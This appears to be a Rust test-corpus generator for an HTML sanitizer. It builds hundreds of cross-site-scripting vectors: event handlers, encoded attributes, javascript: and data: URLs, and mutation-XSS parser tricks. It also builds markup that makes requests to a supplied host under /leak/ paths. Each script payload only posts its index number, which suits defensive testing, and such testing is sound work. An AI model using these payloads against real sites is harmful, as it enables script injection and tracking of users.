//! Markup that would run a script or ask another machine for something, made as a product of forms: what carries it, how it is
//! written, and what it stands in.

/// A piece of markup, and whether it may swallow what stands behind it.
pub struct Vector {
    pub html: String,
    pub is_open: bool,
}

/// What a script says, to whom it runs in: heard at the top from any depth and any origin.
fn call(number: usize) -> String {
    format!("top.postMessage({number},`*`)")
}

/// Each says its place in the list.
pub fn scripts() -> Vec<Vector> {
    let mut made = Vec::new();
    let mut add = |is_open: bool, write: &dyn Fn(&str) -> String| {
        let html = write(&call(made.len()));
        made.push(Vector { html, is_open });
    };
    for carrier in HANDLERS {
        for write in WRITINGS {
            add(false, &|call| write(carrier, call));
        }
    }
    for (open, close) in PLACES {
        for carrier in HANDLERS.iter().take(4) {
            add(false, &|call| format!("{open}{}{close}", WRITINGS[0](carrier, call)));
        }
        add(false, &|call| format!("{open}<script>{call}</script>{close}"));
        add(false, &|call| format!("{open}<iframe srcdoc='<script>{call}</script>'></iframe>{close}"));
    }
    for (begin, end) in SCRIPTS {
        add(false, &|call| format!("{begin}{call}{end}"));
    }
    for carrier in LINKS {
        for scheme in ADDRESSES {
            add(false, &|call| carrier.replace("URL", &scheme.replace("CALL", call)));
        }
    }
    // What holds text alone ends at its own name, also where an attribute has it.
    for raw in RAW {
        for bait in ["<img src=x onerror=CALL>", "<svg onload=CALL>", "<script>CALL</script>"] {
            let bait = |call: &str| bait.replace("CALL", call);
            add(false, &|call| format!("<{raw}><p title=\"</{raw}>{}\"></p></{raw}>", bait(call)));
            add(false, &|call| format!("<svg><{raw}><p title=\"</{raw}>{}\"></p></{raw}></svg>", bait(call)));
            add(false, &|call| {
                format!("<math><mtext><{raw}><b title=\"</{raw}>{}\"></b></{raw}></mtext></math>", bait(call))
            });
            add(true, &|call| format!("<{raw}/><b title=\"</{raw}>{}\"></b>", bait(call)));
        }
    }
    for (before, after) in MOVED {
        for bait in ["<img src=x onerror=CALL>", "<svg onload=CALL></svg>"] {
            add(true, &|call| format!("{before}{}{after}", bait.replace("CALL", call)));
        }
    }
    for whole in WHOLE {
        add(true, &|call| whole.replace("CALL", call));
    }
    for depth in 1..=4 {
        add(false, &|call| {
            (0..depth).fold(format!("<img src=x onerror={call}>"), |inside, _| {
                format!("<iframe srcdoc=\"{}\"></iframe>", inside.replace('&', "&amp;").replace('"', "&quot;"))
            })
        });
        add(false, &|call| {
            (0..depth).fold(format!("<img src=x onerror={call}>"), |text, _| {
                text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
            })
        });
    }
    made
}

/// What asks `site` for something as soon as it is shown, each under an address of its own.
pub fn leaks(site: &str) -> Vec<Vector> {
    let mut made = Vec::new();
    let mut add = |is_open: bool, form: &str| {
        for way in ["http://SITE", "//SITE", "HTTP:\\\\SITE", " http:\n//SITE"] {
            let address = format!("{}/leak/{}", way.replace("SITE", site), made.len());
            made.push(Vector { html: form.replace("URL", &address), is_open });
        }
    };
    for form in FETCHES {
        add(false, form);
    }
    for style in STYLES {
        let style = style.replace('"', "'");
        add(false, &format!("<p style=\"{style}\">x<i>y</i></p>"));
        add(false, &format!("<style>p,i::before,li,div{{{style}}}</style><p>x</p><i>y</i><ul><li>z</li></ul>"));
        add(false, &format!("<svg width=20 height=20><style>*{{{style}}}</style><rect width=9 height=9 /></svg>"));
    }
    for sheet in ["@import 'URL';", "@import url(URL);", "@font-face{font-family:f;src:url(URL)}p{font-family:f}"] {
        add(false, &format!("<style>{sheet}</style><p>x</p>"));
        add(false, &format!("<svg><style>{sheet}</style></svg><p>x</p>"));
        add(true, &format!("<math><mtext><style>{sheet}</style></mtext></math><p>x</p>"));
    }
    made
}

/// An element whose handler is called without anybody's doing, or by what the test does.
const HANDLERS: [&str; 24] = [
    "<img src=x onerror=CALL>",
    "<svg onload=CALL></svg>",
    "<iframe onload=CALL></iframe>",
    "<style onload=CALL>p{}</style>",
    "<details open ontoggle=CALL><summary>x</summary></details>",
    "<video src=x onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<video><source src=x onerror=CALL></video>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL></select>",
    "<object data=x onerror=CALL></object>",
    "<svg><image href=x onerror=CALL></svg>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "<body onload=CALL>",
    "<p onclick=CALL>x</p>",
    "<b onpointerover=CALL>x</b>",
    "<blockquote onmouseenter=CALL>x</blockquote>",
    "<td onbeforecopy=CALL>x</td>",
    "<a href=# onfocusin=CALL>x</a>",
    "<table background=x onmouseover=CALL><tr><td>x</table>",
    "<marquee onstart=CALL>x</marquee>",
    "<svg><animate attributeName=x dur=1s onbegin=CALL></svg>",
    "<math onclick=CALL><mi>x</mi></math>",
    "<unknown onclick=CALL>x</unknown>",
];

type Writing = fn(&str, &str) -> String;

/// How a handler's attribute can be written so that an engine still reads it.
const WRITINGS: [Writing; 11] = [
    |carrier, call| carrier.replace("CALL", call),
    |carrier, call| carrier.replace("CALL", &format!("\"{call}\"")),
    |carrier, call| carrier.replace("CALL", &format!("'{call}'")),
    |carrier, call| carrier.replace("CALL", &numbered(call)),
    |carrier, call| carrier.replace("CALL", &format!("\"{}\"", hexed(call))),
    |carrier, call| carrier.replace(' ', "/").replace("CALL", call),
    |carrier, call| carrier.replace(' ', "\n").replace("=CALL", &format!("\t=\u{c}{call}")),
    |carrier, call| mixed_case(carrier).replace("CALL", call),
    |carrier, call| carrier.replace(" on", " \"' on").replace("CALL", call),
    |carrier, call| carrier.replace(" on", " class=a style=color:red on").replace("CALL", &format!("{call}//")),
    |carrier, call| carrier.replace("CALL", &format!("\"\u{a0}/*{{*/{call};/*}}*/\"")),
];

fn numbered(text: &str) -> String {
    text.bytes().map(|byte| format!("&#{byte};")).collect()
}

fn hexed(text: &str) -> String {
    text.bytes().map(|byte| format!("&#x{byte:X}")).collect()
}

/// Names alone: what stands for the call keeps its letters.
fn mixed_case(carrier: &str) -> String {
    let mut parts = carrier.split("CALL");
    let mix = |part: &str| -> String {
        let letters = part.chars().enumerate();
        letters.map(|(at, letter)| if at % 2 == 0 { letter.to_ascii_uppercase() } else { letter }).collect()
    };
    let first = parts.next().map(mix).unwrap_or_default();
    first + &parts.map(|part| format!("CALL{}", mix(part))).collect::<String>()
}

/// Where a piece may stand: what surrounds it changes how it is read.
const PLACES: [(&str, &str); 20] = [
    ("<table>", "</table>"),
    ("<table><tr>", "</tr></table>"),
    ("<ul><li>", "</li></ul>"),
    ("<figure><figcaption>", "</figcaption></figure>"),
    ("<blockquote><p>", "</p></blockquote>"),
    ("<a href='https://news.example/'>", "</a>"),
    ("<pre><code>", "</code></pre>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<svg><title>", "</title></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><annotation-xml encoding='text/html'>", "</annotation-xml></math>"),
    ("<math><mi><table><mglyph>", "</table></mi></math>"),
    ("<form><div></form><form>", "</form>"),
    ("<select><option>", "</option></select>"),
    ("<button>", "</button>"),
    ("<template>", "</template>"),
    ("<object data=x>", "</object>"),
    ("<frameset>", "</frameset>"),
    ("<x-y><slot>", "</slot></x-y>"),
];

const SCRIPTS: [(&str, &str); 24] = [
    ("<script>", "</script>"),
    ("<SCRIPT>", "</SCRIPT>"),
    ("<script\n>", "</script\t>"),
    ("<script/x>", "</script>"),
    ("<script type=module>", "</script>"),
    ("<script type='text/JavaScript'>", "</script>"),
    ("<script language=javascript>", "</script>"),
    ("<script>/*", "*/</script><script>0</script>"),
    ("<script><!--\n", "\n--></script>"),
    ("<svg><script>", "</script></svg>"),
    ("<svg><script><![CDATA[", "]]></script></svg>"),
    ("<svg><script>//&#10;", "</script></svg>"),
    ("<math><script>", "</script></math>"),
    ("<scr<script>ipt>", "</scr</script>ipt>"),
    ("<script src=\"data:text/javascript,", "\"></script>"),
    ("<script src='data:,", "//'></script>"),
    ("<svg><script href=\"data:text/javascript,", "\"/></svg>"),
    ("<svg><script xlink:href=\"data:,", "//\"></script></svg>"),
    ("<noscript><script>", "</script></noscript>"),
    ("<div><script>", "</script></div>"),
    ("<p><b><i><script>", "</script></p>"),
    ("<?xml version='1.0'?><script>", "</script>"),
    ("<!DOCTYPE html><html><head><script>", "</script></head>"),
    ("<link rel=modulepreload href='data:text/javascript,", "'>"),
];

/// What leads somewhere, by itself or when it is pressed.
const LINKS: [&str; 20] = [
    "<a href=\"URL\">x</a>",
    "<a href='URL' target=_self><p>x</p></a>",
    "<a href=URL>x</a>",
    "<a ping=https://news.example/ href=\"URL\">x</a>",
    "<map><area href=\"URL\"></map>",
    "<form action=\"URL\"><button>x</button></form>",
    "<form><button formaction=\"URL\">x</button></form>",
    "<form><input type=submit formaction=\"URL\"></form>",
    "<iframe src=\"URL\"></iframe>",
    "<object data=\"URL\"></object>",
    "<embed src=\"URL\">",
    "<frameset><frame src=\"URL\"></frameset>",
    "<svg><a href=\"URL\"><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=\"URL\"><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"URL\" /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=\"URL\" /><text y=9>x</text></a></svg>",
    "<svg><use href=\"URL\" /></svg>",
    "<math href=\"URL\"><mi>x</mi></math>",
    "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<base href=\"URL\"><a href=x>x</a>",
];

const ADDRESSES: [&str; 14] = [
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "&#106;avascript:CALL",
    "&#x6A&#x61vascript&colon;CALL",
    "java\tscript:CALL",
    "java&NewLine;script:CALL",
    "&#1;&#31; javascript:CALL",
    "javascript://news.example/%0ACALL",
    "javascript&#58;/*//*/CALL",
    "data:text/html,<script>CALL</script>",
    "data:text/html;charset=utf-8,%3Cimg src=x onerror=CALL%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='CALL'></svg>#x",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>CALL</script>",
    "vbscript:CALL",
];

const RAW: [&str; 8] = ["title", "textarea", "style", "xmp", "noscript", "noembed", "noframes", "iframe"];

/// Text in one reading and markup in the next.
const MOVED: [(&str, &str); 22] = [
    ("<!-->", "-->"),
    ("<!--->", "-->"),
    ("<!-- --!>", "-->"),
    ("<!-- <!-- -->", "-->"),
    ("<!x>", ""),
    ("<?x>", "?>"),
    ("</x y=\"", "\">"),
    ("<![CDATA[", "]]>"),
    ("<svg><![CDATA[><b title=\"]]>", "\"></b></svg>"),
    ("<svg></p><style><b id=\"</style>", "\"></b></style></svg>"),
    ("<svg></br><style><b id=\"</style>", "\"></b></style></svg>"),
    ("<form><math><mtext></form><form><mglyph><style></math>", "</style></mglyph></form></mtext></math></form>"),
    ("<math><mtext><table><mglyph><style><!--</style><b title=\"--&gt;", "\"></b>"),
    ("<math><mtext><table><mglyph><style><![CDATA[</style><b title=\"]]&gt;</mglyph>", "\"></b>"),
    ("<math><annotation-xml encoding=\"text/html\"><style><!--</style><b title=\"-->", "\"></b>"),
    ("<svg><desc><style><!--</style><b title=\"-->", "\"></b></desc></svg>"),
    ("<table><style><!--</style><td title=\"-->", "\"></td></table>"),
    ("<b title='&lt;/b&gt;", "'></b>"),
    ("<b title=`", "`></b>"),
    ("<plaintext>", "</plaintext>"),
    ("<select><style></select>", "</style>"),
    ("<noscript><!--</noscript>", "--></noscript>"),
];

const WHOLE: [&str; 24] = [
    "<img src=x onerror=CALL //",
    "<img src=x onerror=\"CALL\" x",
    "<img/src/onerror=CALL>",
    "<img src=x onerror=CALL onerror=0>",
    "<<img src=x onerror=CALL>>",
    "<img src=\"x` `\"` onerror=CALL>",
    "<img\u{0} src=x onerror=CALL>",
    "<im\u{0}g src=x onerror=CALL>",
    "<img src=x on\u{0}error=CALL>",
    "<img src=x:x \u{b}onerror=CALL>",
    "\u{1}<script\u{1}>CALL</script>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}CALL\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3ECALL%3C/script%3E",
    "<img name=body><img name=head><script>CALL</script>",
    "<form id=f><input name=attributes><input name=childNodes></form><img src=x onerror=CALL>",
    "<p style=\"animation:a 1s\" onanimationstart=CALL>x</p><style>@keyframes a{}</style>",
    "<p style=\"transition:color 1s\" ontransitionrun=CALL>x</p>",
    "<div style=\"width:expression(CALL)\">x</div>",
    "<div style=\"behavior:url(#default#time2)\" onbegin=CALL>x</div>",
    "<style>@import 'javascript:CALL';</style>",
    "<style>p{background:url(\"javascript:CALL\")}</style><p>x</p>",
    "<xml><x onclick=CALL>x</x></xml><html onmouseover=CALL><body onscroll=CALL>",
    "<isindex action=javascript:CALL type=submit><bgsound src=javascript:CALL><layer src=javascript:CALL></layer>",
];

const FETCHES: [&str; 49] = [
    "<img src=\"URL\">",
    "<img srcset=\"URL 2x\">",
    "<img src=x srcset=\"URL\" sizes=100vw>",
    "<img lowsrc=\"URL\" dynsrc=\"URL\">",
    "<image src=\"URL\">",
    "<picture><source srcset=\"URL\"><img></picture>",
    "<input type=image src=\"URL\">",
    "<video src=\"URL\" autoplay></video>",
    "<video poster=\"URL\"></video>",
    "<video><source src=\"URL\"><track default src=\"URL\"></video>",
    "<audio src=\"URL\" preload=auto></audio>",
    "<audio controls><source src=\"URL\"></audio>",
    "<iframe src=\"URL\"></iframe>",
    "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "<object data=\"URL\"></object>",
    "<object><param name=src value=\"URL\"><embed src=\"URL\"></object>",
    "<embed src=\"URL\" type=image/png>",
    "<link rel=stylesheet href=\"URL\">",
    "<link rel=icon href=\"URL\">",
    "<link rel=prefetch href=\"URL\">",
    "<link rel=preload as=image href=\"URL\">",
    "<link rel=preload as=style href=\"URL\">",
    "<link rel=modulepreload href=\"URL\">",
    "<link rel=prerender href=\"URL\">",
    "<link rel=manifest href=\"URL\">",
    "<link rel=dns-prefetch href=\"URL\">",
    "<link rel=preconnect href=\"URL\">",
    "<script src=\"URL\"></script>",
    "<script type=module>import 'URL'</script>",
    "<base href=\"URL/\"><img src=x>",
    "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<meta http-equiv=link content=\"<URL>;rel=stylesheet\">",
    "<html manifest=\"URL\">",
    "<body background=\"URL\">",
    "<table background=\"URL\"><tr><td background=\"URL\">x</table>",
    "<svg><image href=\"URL\" width=9 height=9 /></svg>",
    "<svg><image xlink:href=\"URL\" width=9 height=9 /></svg>",
    "<svg><use href=\"URL#x\" /></svg>",
    "<svg><feImage href=\"URL\" /></svg>",
    "<svg><filter id=f><feImage href=\"URL\" /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><rect width=9 height=9 fill=\"url(URL#x)\" filter=\"url(URL#f)\" mask=\"url(URL#m)\" /></svg>",
    "<svg><script href=\"URL\" /></svg>",
    "<svg><foreignObject width=9 height=9><img src=\"URL\" /></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=\"URL\"></annotation-xml></math>",
    "<frameset><frame src=\"URL\"></frameset>",
    "<bgsound src=\"URL\">",
    "<marquee><img src=\"URL\"></marquee>",
    "<applet code=\"URL\" archive=\"URL\"></applet>",
    "<noscript><img src=\"URL\"></noscript>",
];

const STYLES: [&str; 9] = [
    "background:url(URL)",
    "background-image:image-set(\"URL\" 1x)",
    "background:u\\72l(URL)",
    "list-style:url(URL);display:list-item",
    "border-image:url(URL) 9;border:9px solid",
    "content:url(URL)",
    "cursor:url(URL),auto",
    "mask-image:url(URL);-webkit-mask:url(URL)",
    "filter:url(URL#f);shape-outside:url(URL);float:left",
];
